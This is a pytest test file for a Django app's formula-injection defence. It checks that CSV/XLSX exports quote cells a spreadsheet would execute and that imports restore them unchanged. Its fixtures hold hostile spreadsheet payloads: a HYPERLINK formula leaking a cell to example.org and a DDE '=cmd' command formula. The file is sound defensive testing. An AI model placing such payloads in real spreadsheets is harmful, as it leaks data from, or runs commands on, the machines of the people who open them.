"""Spreadsheet-safe CSV and XLSX (nkhr/spreadsheets.py): a text cell a spreadsheet would run
as a formula is written with a leading single quote, numbers stay numbers, and the import
takes off exactly that quote, so exports round-trip unchanged."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from nkhr.models import Actor, Alias, Citation
from nkhr.resources import ActorResource
from nkhr.spreadsheets import neutralise, restore
from tests import factories
from tests.import_base import ADMIN_FORMAT_INDEX, export_through_admin, round_trip, user_in_role

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+82 2 2100 5700",
    "-x",
    "@SUM(A1:A9)",
    "\tTab",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+82 2", "'+82 2"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        # Already quoted before a trigger: one quote more, which the import takes off again.
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        # Numbers, real or written as text, are what a spreadsheet reads as numbers.
        ("-1", "-1"),
        ("+82", "+82"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        (-1, -1),
        (2.5, 2.5),
        # Nothing to run.
        ("'quoted", "'quoted"),
        ("Kim Jong Un", "Kim Jong Un"),
        ("2015-06", "2015-06"),
        ('[{"name": "=x"}]', '[{"name": "=x"}]'),
        ("", ""),
        (None, None),
    ],
)
def test_text_a_spreadsheet_would_run_is_quoted_and_read_back(value, cell):
    assert neutralise(value) == cell
    assert restore(cell) == value


def test_a_cell_not_written_by_the_export_is_read_as_it_is():
    # A hand-written file: a lone quote before something harmless stays.
    assert restore("'quoted") == "'quoted"
    assert restore("'-1") == "-1"  # the export never writes this, but it means -1 either way


@pytest.fixture
def editor(django_user_model):
    return user_in_role(django_user_model, "Editor")


@pytest.fixture
def hostile_actors(db):
    source = factories.SourceFactory(id="paper")
    actors = [
        factories.PersonFactory(id=f"hostile-{n}", name=name, cited__source=source)
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    factories.AliasFactory(actor=actors[0], name="=cmd|'/c calc'!A1")
    return actors


def exported_cells(content: bytes, file_format: str) -> list[dict]:
    if file_format == "csv":
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_admin_export_quotes_formula_names_and_imports_back_unchanged(
    client, editor, hostile_actors, file_format
):
    client.force_login(editor)
    exported = export_through_admin(client, Actor, file_format)

    rows = {
        row["id"] if file_format == "csv" else row["id"].value: row
        for row in exported_cells(exported, file_format)
    }
    for actor in hostile_actors:
        name = rows[actor.pk]["name"]
        if file_format == "xlsx":
            assert name.data_type == "s"  # a string, not a formula cell
            name = name.value
        assert name == "'" + actor.name
    before, after, result = round_trip(
        ActorResource, Actor, editor, file_format, rows=["aliases"], export=exported
    )
    assert not result.has_errors() and not result.has_validation_errors()
    assert after == before
    assert set(Actor.objects.values_list("name", flat=True)) == set(HOSTILE_NAMES)
    assert Alias.objects.get().name == "=cmd|'/c calc'!A1"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_import_page_reads_an_export_back_to_the_original_names(
    client, editor, hostile_actors, file_format
):
    client.force_login(editor)
    exported = export_through_admin(client, Actor, file_format)
    Citation.objects.all().delete()
    Actor.objects.all().delete()

    upload = SimpleUploadedFile(f"actors.{file_format}", exported)
    response = client.post(
        reverse("admin:nkhr_actor_import"),
        {"import_file": upload, "format": ADMIN_FORMAT_INDEX[file_format], "resource": "0"},
    )
    assert response.status_code == 200
    assert not response.context["result"].has_validation_errors()
    confirm = response.context["confirm_form"]
    response = client.post(
        reverse("admin:nkhr_actor_process_import"),
        {name: confirm.initial[name] for name in confirm.fields},
    )

    assert response.status_code == 302
    assert sorted(Actor.objects.values_list("name", flat=True)) == sorted(HOSTILE_NAMES)


def api_csv(path: str, params: dict) -> list[dict]:
    response = APIClient().get(path, params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content if not response.streaming else b"".join(response)
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/api/v1/actors/", {"format": "csv"}),
        ("/api/v1/export/", {"format": "csv", "resource": "actors"}),
    ],
)
def test_the_api_csv_quotes_formula_cells_and_restore_gives_the_json_values(
    hostile_actors, path, params
):
    as_json = {row["id"]: row for row in APIClient().get("/api/v1/actors/").json()["results"]}
    rows = api_csv(path, params)

    assert {row["id"] for row in rows} == set(as_json)
    for row in rows:
        record = as_json[row["id"]]
        assert row["name"] == "'" + record["name"]
        assert restore(row["name"]) == record["name"]
        # The nested aliases are a JSON cell: it starts with "[", nothing to run.
        assert row["aliases"] == "" or row["aliases"].startswith("[")


def test_an_api_csv_row_written_back_restored_recreates_the_record(db, django_user_model):
    source = factories.SourceFactory(id="paper")
    # The API trims leading whitespace from names, so a tab-led name is not written back.
    for n, name in enumerate(HOSTILE_NAMES[:-1]):
        factories.PersonFactory(id=f"hostile-{n}", name=name, cited__source=source)
    rows = api_csv("/api/v1/actors/", {"format": "csv"})
    Citation.objects.all().delete()
    Actor.objects.all().delete()
    client = APIClient()
    client.force_authenticate(django_user_model.objects.create_superuser("writer", "", "x"))

    for row in rows:
        payload = {
            "id": restore(row["id"]),
            "name": restore(row["name"]),
            "kind": row["kind"],
            "citations": [{"source": "paper", "section": "1"}],
        }
        assert client.post("/api/v1/actors/", payload, format="json").status_code == 201

    assert sorted(Actor.objects.values_list("name", flat=True)) == sorted(HOSTILE_NAMES[:-1])
